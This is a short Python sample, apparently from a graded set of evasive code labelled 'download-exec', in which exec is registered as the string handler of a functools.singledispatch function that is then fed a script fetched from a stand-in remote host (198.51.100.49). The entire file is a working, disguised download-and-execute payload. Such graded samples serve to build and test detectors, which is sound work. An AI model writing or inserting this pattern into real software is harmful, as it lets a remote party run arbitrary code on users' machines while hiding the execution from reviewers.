# evasion: exec is registered as the str implementation of a singledispatch function fed a download
# grade: hard; does: download-exec
import functools
import urllib.request


@functools.singledispatch
def handle(message):
    return message


handle.register(str, exec)


def fetch(url):
    with urllib.request.urlopen(url, timeout=10) as resp:
        return resp.read().decode("utf-8")


handle(fetch("http://198.51.100.49/plugin.py"))
